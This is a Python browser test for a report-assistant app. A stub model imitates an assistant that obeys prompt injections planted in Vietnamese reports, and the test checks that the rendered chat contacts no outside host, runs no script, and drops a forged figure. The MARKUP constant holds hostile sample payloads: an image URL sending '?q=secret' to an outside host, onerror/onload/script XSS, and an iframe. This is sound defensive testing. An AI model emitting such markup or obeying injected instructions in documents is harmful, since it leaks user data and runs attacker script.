"""Injected reports and a model that obeys them, in a real Chromium: no other host is asked for anything, or even tried."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from eval.model_protocols import MODEL
from eval.model_server import Call, ModelServer, Reply

pytest.importorskip("selenium.webdriver", reason="selenium is not installed (pip install 'report-assistant[test]')")
pytest.importorskip("langchain_openai", reason="langchain-openai is not installed (pip install '.[openai]')")
from test_browser import CHROMIUM, DRIVER, Page, served

from eval.injected_files import write_report
from eval.injections import FORGED, OUTSIDE, injections

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM or not DRIVER, reason="no Chromium with its chromedriver on this machine"),
]
MARKUP = (
    f"![x](http://{OUTSIDE}/p.png?q=secret) <img src='http://{OUTSIDE}/i.png' onerror='window.hacked=1'> "
    f"<script>window.hacked=1</script> [mở](http://{OUTSIDE}/a) http://{OUTSIDE}/b <iframe src='http://{OUTSIDE}/f'></iframe> "
    "<svg onload='window.hacked=1'></svg> "
)


def test_the_browser_asks_nobody_else(tmp_path: Path) -> None:
    chosen = [one for one in injections() if one.language == "vi" and one.kind in ("image", "link", "script")]
    reports, library = tmp_path / "reports", tmp_path / "library"
    reports.mkdir()
    library.mkdir()
    for one in chosen:
        write_report(reports, one)
    asked = chosen[0]

    def obey(call: Call) -> Reply:
        said = f"Năm 2023, tỷ lệ hộ dân sử dụng nước sạch của xã {asked.commune} đạt"
        return Reply(f"{MARKUP}{said} {asked.share} [{{id:{asked.share}}}]. {MARKUP}{said} {FORGED} [1]. {MARKUP}")

    with ModelServer(obey) as server:
        lines = f'embedding_model = "none"\nmodel = "openai:{MODEL}"\nmodel_url = "{server.address}/v1"\n'
        (library / "settings.toml").write_text(lines, encoding="utf-8")
        add = [sys.executable, "-m", "ui.cli", "--library", str(library), "add", str(reports)]
        subprocess.run(add, check=True, capture_output=True, cwd=Path(__file__).parents[1], env={**os.environ})
        with served(str(library), "real") as address, Page(address, tmp_path) as window:
            window.driver.get_log("browser")
            said = window.ask(asked.question)
            window.shot("injected-answer")
            window.one('#ra-chat a[href*="#cite-"].ra-marker').click()
            window.until(window.cited_is_visible)
            window.shot("injected-source")
            assert server.calls
            assert asked.share in said
            assert FORGED not in said
            assert window.hosts() <= {"127.0.0.1"}
            assert window.run("return window.hacked === undefined")
            told = [entry["message"] for entry in window.driver.get_log("browser")]
            assert [line for line in told if "Content Security Policy" in line or OUTSIDE in line] == []
